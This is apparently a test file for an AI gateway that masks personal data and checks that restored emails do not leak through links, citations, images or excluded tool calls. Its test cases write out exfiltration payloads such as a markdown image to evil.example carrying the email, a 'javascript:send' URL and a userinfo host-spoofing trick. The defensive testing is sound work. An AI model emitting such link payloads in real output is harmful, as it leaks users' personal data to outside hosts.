/** Restored values are a way out too: into links only where the caller or the workspace allows, into no call of an excluded tool. */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test';
import { workspaceSettingsSchema } from '../../src/contract/workspace.ts';
import { chunk, completion, DONE, streamedAnswer, streamText, USAGE_CHUNK } from '../support/fake-provider.ts';
import { chat, contentOf, eventsOf, type RunningGateway, startGateway } from '../support/start-gateway.ts';

const VALUE = 'anna.smith@corp.test';
const ask = (more = {}) => chat(`I am ${VALUE}, my page is https://mine.example/home`, { pii: 'obfuscate', ...more });

let running: RunningGateway;
beforeAll(async () => {
  running = await startGateway({
    workspace: {
      restore: { allowedHosts: ['docs.example.org', '*.Trusted.example'], excludedTools: ['web_search', 'browse'] },
    },
  });
});
afterAll(() => running.stop());

interface Message {
  content: string | null;
  tool_calls?: { function?: { arguments: string }; custom?: { input: string } }[];
  annotations?: unknown[];
  [field: string]: unknown;
}
async function messageFor(
  said: Record<string, unknown>,
): Promise<{ message: Message; withheld: string | null; response: Response }> {
  running.provider.answerWith(() => Response.json(completion(said)));
  const response = await running.post(ask());
  const body = (await response.clone().json()) as { choices: { message: Message }[] };
  const message = body.choices[0]?.message;
  if (message === undefined) throw new Error('no message');
  return { message, withheld: response.headers.get('x-onefirewall-withheld'), response };
}

describe('links in text', () => {
  test.each([
    ['a host of nobody', '![x](https://evil.example/?q=[EMAIL_1])', 1],
    ['a host the caller wrote', '[x](https://mine.example/?q=[EMAIL_1])', 0],
    ['a host the workspace allows', '[x](https://docs.example.org/?q=[EMAIL_1])', 0],
    ['a host below an allowed domain', '[x](https://a.b.trusted.example/?q=[EMAIL_1])', 0],
    ['the allowed domain itself', '[x](https://trusted.example/?q=[EMAIL_1])', 1],
    ['a domain that only ends like it', '[x](https://nottrusted.example/?q=[EMAIL_1])', 1],
    ['a host below an allowed host', '[x](https://x.docs.example.org/?q=[EMAIL_1])', 1],
    ['an allowed host as a user name', '[x](https://docs.example.org@evil.example/?q=[EMAIL_1])', 1],
    ['no host', '[x](/people?q=[EMAIL_1])', 0],
    ['two of them', 'https://evil.example/[EMAIL_1]/[EMAIL_1]', 2],
  ])('%s', async (_name, said, refused) => {
    const { message, withheld } = await messageFor({ content: said });
    expect(message.content).toBe(refused === 0 ? said.replaceAll('[EMAIL_1]', VALUE) : said);
    expect(withheld).toBe(refused === 0 ? null : `links=${refused}, tools=0`);
    running.provider.answerWith(() => streamText(said, 2));
    const streamed = await running.post(ask({ stream: true }));
    const text = await streamed.text();
    expect(contentOf(await eventsOf(new Response(text)))).toBe(message.content ?? '');
    expect(text).toContain(` withheld.links=${refused} `);
    const details = JSON.parse((await running.audit())[0]?.details ?? '{}');
    if (refused > 0) expect(details.withheld).toEqual({ links: refused, tools: 0 });
    else expect(details).not.toHaveProperty('withheld');
  });
});

describe('addresses of sources', () => {
  const cite = (url: string) => ({
    content: 'see there',
    annotations: [
      {
        type: 'url_citation',
        url_citation: { start_index: 0, end_index: 3, title: 'By [PERSON_9] for [EMAIL_1]', url },
      },
    ],
  });
  test.each([
    ['https://evil.example/?q=[EMAIL_1]', false],
    ['evil.example/?q=[EMAIL_1]', false],
    ['//evil.example/?q=[EMAIL_1]', false],
    ['javascript:send([EMAIL_1])', false],
    ['https://mine.example/[EMAIL_1]', true],
    ['/local/[EMAIL_1]', true],
  ])('%s', async (url, restored) => {
    const { message } = await messageFor(cite(url));
    const [annotation] = message.annotations as { url_citation: { url: string; title: string } }[];
    expect(annotation?.url_citation.url).toBe(restored ? url.replace('[EMAIL_1]', VALUE) : url);
    expect(annotation?.url_citation.title).toBe(`By [PERSON_9] for ${VALUE}`);
    running.provider.answerWith(() => streamedAnswer([chunk(cite(url)), chunk({}, 'stop'), USAGE_CHUNK, DONE]));
    const events = await eventsOf(await running.post(ask({ stream: true })));
    expect(JSON.parse(events[0] ?? '').choices[0].delta.annotations).toEqual(message.annotations);
  });

  test('in a list that does not say what they are', async () => {
    const refused = ['//evil.example/[EMAIL_1]', 'evil.example?q=[EMAIL_1]', 'https://evil.example/[EMAIL_1]'];
    const citations = [...refused, 'https://mine.example/[EMAIL_1]', 'a text for [EMAIL_1]'];
    running.provider.answerWith(() => Response.json({ ...completion({ content: 'x' }), citations }));
    const answer = (await (await running.post(ask())).json()) as { citations: string[] };
    expect(answer.citations).toEqual([...refused, `https://mine.example/${VALUE}`, `a text for ${VALUE}`]);
  });

  test('the places they are for move with the text', async () => {
    const said = 'Dear [EMAIL_1], see [1] and for [EMAIL_1] see [2].';
    const source = (mark: string) => ({
      type: 'url_citation',
      url_citation: {
        start_index: said.indexOf(mark),
        end_index: said.indexOf(mark) + mark.length,
        title: 'x',
        url: '/x',
      },
    });
    const annotations = [source('[1]'), source('[2]')];
    const marked = (message: { content: string; annotations: unknown[] }) =>
      (message.annotations as ReturnType<typeof source>[]).map(({ url_citation: { start_index, end_index } }) =>
        message.content.slice(start_index, end_index),
      );
    const { message } = await messageFor({ content: said, annotations });
    expect(message.content).toBe(said.replaceAll('[EMAIL_1]', VALUE));
    expect(marked(message as never)).toEqual(['[1]', '[2]']);
    const deltas = Array.from(said, (letter) => chunk({ content: letter }));
    running.provider.answerWith(() =>
      streamedAnswer([...deltas, chunk({ annotations }), chunk({}, 'stop'), USAGE_CHUNK, DONE]),
    );
    const events = await eventsOf(await running.post(ask({ stream: true })));
    const late = events.find((event) => event.includes('annotations')) ?? '';
    const content = contentOf(events);
    expect(marked({ content, annotations: JSON.parse(late).choices[0].delta.annotations })).toEqual(['[1]', '[2]']);
  });

  test('pictures in fields of their own', async () => {
    const images = [
      { type: 'image_url', image_url: { url: 'https://evil.example/[EMAIL_1].png' } },
      { type: 'image_url', image_url: { url: 'data:image/png;base64,iVBORw0KGgo=' } },
    ];
    const { message, withheld } = await messageFor({ content: 'here', images });
    expect(message.images).toEqual(images);
    expect(withheld).toBe('links=1, tools=0');
  });
});

describe('tools', () => {
  const call = (name: string, index = 0) => ({
    index,
    id: `call_${index}`,
    type: 'function',
    function: { name, arguments: '{"q":"[EMAIL_1]"}' },
  });

  test('an excluded one gets placeholders, another gets values; both are counted', async () => {
    const { message, withheld } = await messageFor({
      content: null,
      tool_calls: [call('web_search'), call('send', 1)],
    });
    expect(message.tool_calls?.map((each) => each.function?.arguments)).toEqual([
      '{"q":"[EMAIL_1]"}',
      `{"q":"${VALUE}"}`,
    ]);
    expect(withheld).toBe('links=0, tools=1');
    expect(JSON.parse((await running.audit())[0]?.details ?? '{}').withheld).toEqual({ links: 0, tools: 1 });
  });

  test('the same in a stream, whatever the pieces, where the name comes first or in pieces', async () => {
    for (const names of [['web_search'], ['web_', 'search'], ['web_search', 'web_search']]) {
      const opening = names.map((name) =>
        chunk({ tool_calls: [{ index: 0, id: 'c', type: 'function', function: { name } }] }),
      );
      const deltas = Array.from('{"q":"[EMAIL_1]"}', (letter) =>
        chunk({ tool_calls: [{ index: 0, function: { arguments: letter } }] }),
      );
      const other = chunk({ tool_calls: [call('send', 1)] });
      running.provider.answerWith(() =>
        streamedAnswer([...opening, ...deltas, other, chunk({}, 'tool_calls'), USAGE_CHUNK, DONE]),
      );
      const text = await (await running.post(ask({ stream: true }))).text();
      const args = ['', ''];
      for (const event of await eventsOf(new Response(text))) {
        if (event === '[DONE]') continue;
        for (const each of JSON.parse(event).choices[0]?.delta?.tool_calls ?? [])
          args[each.index] += each.function?.arguments ?? '';
      }
      expect(args).toEqual(['{"q":"[EMAIL_1]"}', `{"q":"${VALUE}"}`]);
      expect(text).toContain(' withheld.tools=1 ');
    }
  });

  describe('calls that share an index, or have none, are calls of their own', () => {
    const named = (name: string, more: Record<string, unknown>) => ({
      type: 'function',
      function: { name, arguments: '{"q":"[EMAIL_1]"}' },
      ...more,
    });
    const expected = [`{"q":"${VALUE}"}`, '{"q":"[EMAIL_1]"}', `{"q":"${VALUE}"}`];
    for (const [title, more] of [
      ['index 0', { index: 0 }],
      ['no index', {}],
    ] as const) {
      const calls = ['send', 'web_search', 'send'].map((name, i) => named(name, { id: `call_${i}`, ...more }));
      test(`${title}: whole`, async () => {
        const { message, withheld } = await messageFor({ content: null, tool_calls: calls });
        expect(message.tool_calls?.map((each) => each.function?.arguments)).toEqual(expected);
        expect(withheld).toBe('links=0, tools=1');
      });
      for (const [how, deltas] of [
        ['in one delta', [calls]],
        ['in a delta each', calls.map((each) => [each])],
      ] as const) {
        test(`${title}: ${how}`, async () => {
          const pieces = deltas.map((tool_calls) => chunk({ tool_calls }));
          running.provider.answerWith(() => streamedAnswer([...pieces, chunk({}, 'tool_calls'), DONE]));
          const text = await (await running.post(ask({ stream: true }))).text();
          expect(
            [...text.matchAll(/"arguments":"((?:[^"\\]|\\.)*)"/g)].map(([, args]) => JSON.parse(`"${args}"`)),
          ).toEqual(expected);
          expect(text).toContain(' withheld.tools=1 ');
        });
      }
    }

    test('a name that changes after its arguments began gets no more values', async () => {
      const pieces = [
        { id: 'c', function: { name: 'web_', arguments: '{' } },
        { function: { name: 'search', arguments: '"q":"[EMAIL_1]"}' } },
      ].map((each) => chunk({ tool_calls: [{ index: 0, ...each }] }));
      running.provider.answerWith(() => streamedAnswer([...pieces, chunk({}, 'tool_calls'), DONE]));
      const text = await (await running.post(ask({ stream: true }))).text();
      expect(text).not.toContain(VALUE);
      expect(text).toContain(' withheld.tools=1 ');
    });

    test('an id that changes with every delta is one call', async () => {
      const pieces = [
        { id: 'a', function: { name: 'send', arguments: '{"q":"[EMA' } },
        { id: 'b', function: { arguments: 'IL_1]"}' } },
      ].map((each) => chunk({ tool_calls: [{ index: 0, ...each }] }));
      running.provider.answerWith(() => streamedAnswer([...pieces, chunk({}, 'tool_calls'), DONE]));
      expect(await (await running.post(ask({ stream: true }))).text()).toContain(VALUE);
    });
  });

  test('custom tools, the old form of a call, and arguments that are no string', async () => {
    const { message } = await messageFor({
      content: null,
      tool_calls: [
        { id: 'a', type: 'custom', custom: { name: 'browse', input: 'go to [EMAIL_1]' } },
        { id: 'b', type: 'custom', custom: { name: 'write', input: 'go to [EMAIL_1]' } },
        { id: 'c', type: 'function', function: { name: 'browse', arguments: { q: '[EMAIL_1]' } } },
        { id: 'd', type: 'function', function: { name: 'write', arguments: { q: '[EMAIL_1]' } } },
      ],
      function_call: { name: 'browse', arguments: '{"q":"[EMAIL_1]"}' },
    });
    expect(JSON.stringify(message.tool_calls?.[0])).toContain('[EMAIL_1]');
    expect(JSON.stringify(message.tool_calls?.[1])).toContain(VALUE);
    expect(JSON.stringify(message.tool_calls?.[2])).toContain('[EMAIL_1]');
    expect(JSON.stringify(message.tool_calls?.[3])).toContain(VALUE);
    expect(JSON.stringify(message.function_call)).toContain('[EMAIL_1]');
  });

  test('`all` excludes every tool, and nothing else', async () => {
    const strict = await startGateway({ workspace: { restore: { excludedTools: 'all' } } });
    try {
      strict.provider.answerWith(() =>
        Response.json(completion({ content: 'for [EMAIL_1]', tool_calls: [call('anything')] }, 'tool_calls')),
      );
      const text = await (await strict.post(ask())).text();
      expect(text).toContain(`for ${VALUE}`);
      expect(text).toContain('\\"[EMAIL_1]\\"');
    } finally {
      await strict.stop();
    }
  });
});

describe('every field that somebody sends', () => {
  test('comes back with values, in reasoning of all spellings and in fields nobody knows', async () => {
    const said = {
      content: 'a [EMAIL_1]',
      refusal: 'b [EMAIL_1]',
      reasoning: 'c [EMAIL_1]',
      reasoning_content: 'd [EMAIL_1]',
      thinking: 'e [EMAIL_1]',
      thinking_blocks: [{ type: 'thinking', thinking: 'f [EMAIL_1]', signature: 'keptEMAIL_1' }],
      reasoning_details: [
        { type: 'reasoning.text', text: 'g [EMAIL_1]' },
        { type: 'reasoning.encrypted', data: 'kept' },
      ],
      audio: { id: 'kept', data: 'kept', transcript: 'h [EMAIL_1]' },
      context: { citations: [{ title: 'i [EMAIL_1]', content: ['j [EMAIL_1]'] }] },
    };
    const { message } = await messageFor(said);
    const expected = JSON.parse(JSON.stringify(said).replaceAll('[EMAIL_1]', VALUE));
    expect(message).toEqual({ role: 'assistant', ...expected });
    running.provider.answerWith(() => streamedAnswer([chunk(said), chunk({}, 'stop'), USAGE_CHUNK, DONE]));
    const events = await eventsOf(await running.post(ask({ stream: true })));
    expect(JSON.parse(events[0] ?? '').choices[0].delta).toEqual(expected);
  });

  test('beside the choices too: sources, sent once or with every chunk', async () => {
    const beside = {
      citations: ['https://mine.example/[EMAIL_1]', 'https://evil.example/[EMAIL_1]'],
      search_results: [{ title: 'About [EMAIL_1]', url: 'https://evil.example/', date: null }],
      upstream: 'as it was: [EMAIL_1]',
    };
    const expected = {
      citations: [`https://mine.example/${VALUE}`, 'https://evil.example/[EMAIL_1]'],
      search_results: [{ title: `About ${VALUE}`, url: 'https://evil.example/', date: null }],
      upstream: 'as it was: [EMAIL_1]',
    };
    running.provider.answerWith(() => Response.json({ ...completion({ content: 'hi' }), ...beside }));
    const whole = await running.post(ask());
    expect(await whole.json()).toMatchObject(expected);
    expect(whole.headers.get('x-onefirewall-withheld')).toBe('links=1, tools=0');
    const withSources = (delta: object, finish: string | null = null) =>
      `data: ${JSON.stringify({ choices: [{ index: 0, delta, finish_reason: finish }], ...beside })}\n\n`;
    running.provider.answerWith(() =>
      streamedAnswer([
        withSources({ content: 'a [EMAIL' }),
        withSources({ content: '_1]' }),
        withSources({}, 'stop'),
        DONE,
      ]),
    );
    const text = await (await running.post(ask({ stream: true }))).text();
    for (const event of await eventsOf(new Response(text)))
      if (event !== '[DONE]') expect(JSON.parse(event)).toMatchObject(expected);
    expect(text).toContain(' withheld.links=1 ');
  });

  test('and says the rest of each in its own shape before the finish frame', async () => {
    const said = [
      { thinking_blocks: [{ type: 'thinking', thinking: 'f [EMAIL_' }] },
      { reasoning_details: [{ type: 'reasoning.text', text: 'g [EMAIL_', index: 0 }] },
      { content: [{ type: 'text', text: 'h [EMAIL_' }] },
      { audio: { transcript: 'i [EMAIL_' } },
    ];
    for (const delta of said) {
      running.provider.answerWith(() => streamedAnswer([chunk(delta), chunk({}, 'length'), USAGE_CHUNK, DONE]));
      const events = await eventsOf(await running.post(ask({ stream: true })));
      const deltas = events
        .slice(0, 3)
        .map((event) => (event === '[DONE]' ? {} : (JSON.parse(event).choices[0]?.delta ?? {})));
      expect(Object.keys(deltas[0])).toEqual(Object.keys(delta));
      expect(Object.keys(deltas[1])).toEqual(Object.keys(delta));
      expect(JSON.stringify(deltas)).toContain('[EMAIL_');
    }
  });
});

describe('the settings', () => {
  const parse = (restore: unknown) => workspaceSettingsSchema.safeParse({ restore });
  test.each(['docs.example.org', '*.example.org', 'localhost', 'EXAMPLE.org', '10.0.0.7'])('%s is a host', (host) => {
    expect(parse({ allowedHosts: [host] }).data?.restore.allowedHosts).toEqual([host.toLowerCase()]);
  });
  test.each(['https://example.org', 'example.org/path', 'example.org:80', '*', '*.org', 'a*.example.org', '', 'a b'])(
    '%p is none',
    (host) => {
      expect(parse({ allowedHosts: [host] }).success).toBe(false);
    },
  );
  test('tools are names, or all of them', () => {
    expect(parse({ excludedTools: 'all' }).success).toBe(true);
    expect(parse({ excludedTools: ['a'] }).success).toBe(true);
    expect(parse({ excludedTools: 'some' }).success).toBe(false);
  });
});
